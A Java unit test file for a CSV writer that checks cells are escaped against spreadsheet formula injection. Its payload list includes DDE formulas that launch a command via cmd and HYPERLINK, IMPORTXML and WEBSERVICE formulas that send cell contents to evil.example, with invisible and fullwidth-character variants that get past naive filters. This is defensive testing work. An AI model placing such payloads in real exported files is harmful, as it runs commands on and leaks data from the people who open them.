package app.marketingstatuses.session;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

class CsvTest {
    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
            "=WEBSERVICE(\"http://evil.example/\"&A1)",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "-2+3+cmd|' /C calc'!D2",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "@x",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "==1",
            "=+-@1",
            "'=1+1",
            "''=1+1");

    /** What is put before a formula so that it is looked at all the same. */
    private static final List<String> BEFORE = List.of(
            "", " ", "\t", "\r", "\n", "\"", "\u00a0", "\ufeff", "\u200b", "a;", "a\t", "a\n", "a\r\n", "a;\"",
            "\";\"");

    private static final Pattern ADDED = Pattern.compile(
            "(?<=^|[;\\t\\r\\n])([\"\\p{Z}\\p{C}&&[^\\t\\r\\n]]*+)'(?='*+[=+\\-@\\uFF1D\\uFF0B\\uFF0D\\uFF20])");
    private static final Pattern LIVE = Pattern.compile("^[\"\\s\\p{Z}\\p{C}]*+[=+\\-@\\uFF1D\\uFF0B\\uFF0D\\uFF20]");

    private static List<String> payloads() {
        List<String> all = new ArrayList<>();
        BEFORE.forEach(before -> FORMULAS.forEach(formula -> all.add(before + formula)));
        return all;
    }

    @Test
    void noPayloadIsAFormulaHoweverTheSpreadsheetCutsTheFile() {
        assertThat(payloads()).hasSizeGreaterThan(100);
        for (String payload : payloads()) {
            String line = Csv.line("first", payload, "a, \"b\"", payload);
            for (char separator : new char[] {',', ';', '\t', '|'}) {
                assertThat(cells(line, separator))
                        .as("%s cut at %s", line, separator)
                        .noneMatch(cell -> LIVE.matcher(cell).find());
            }
        }
    }

    @Test
    void everyPayloadIsReadBackAsItWas() {
        List<String> texts = new ArrayList<>(payloads());
        texts.addAll(
                List.of("", "a", "'", "it's", "a=b", "a-b", "5 - 3", "Doe, John", "\"quoted\"", "x;y", "a\nb", "\tx"));
        for (String text : texts) {
            assertThat(cells(Csv.line("first", text, 5), ','))
                    .hasSize(3)
                    .element(1)
                    .satisfies(cell -> assertThat(plain(cell)).isEqualTo(text));
        }
    }

    /** A cell without the apostrophes that were put in. */
    private static String plain(String cell) {
        String text = cell.startsWith("'\t") || cell.startsWith("'\r") ? cell.substring(1) : cell;
        return ADDED.matcher(text).replaceAll(found -> Matcher.quoteReplacement(found.group(1)));
    }

    /** As spreadsheets read a file: a quote counts at the start of a cell only, and what follows the second one is kept. */
    private static List<String> cells(String file, char separator) {
        List<String> all = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        boolean start = true;
        for (int i = 0; i < file.length(); i++) {
            char c = file.charAt(i);
            if (quoted) {
                if (c != '"') {
                    cell.append(c);
                } else if (i + 1 < file.length() && file.charAt(i + 1) == '"') {
                    cell.append(c);
                    i++;
                } else {
                    quoted = false;
                }
            } else if (c == separator || c == '\r' || c == '\n') {
                all.add(cell.toString());
                cell.setLength(0);
                start = true;
                i += c == '\r' && i + 1 < file.length() && file.charAt(i + 1) == '\n' ? 1 : 0;
                continue;
            } else if (c == '"' && start) {
                quoted = true;
            } else {
                cell.append(c);
            }
            start = false;
        }
        return all;
    }

    @Test
    void cellsThatASpreadsheetWouldCalculateAreText() {
        assertThat(Csv.line("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b"))
                .isEqualTo("'=1+1,'+1,'-1,'@x,\"'\tx\",\"'\rx\",a=b\r\n");
    }

    @Test
    void quotesCommasAndLineEndsAreQuoted() {
        assertThat(Csv.line("a\"b", "a,b", "a\nb", null, 5, true)).isEqualTo("\"a\"\"b\",\"a,b\",\"a\nb\",,5,true\r\n");
    }
}
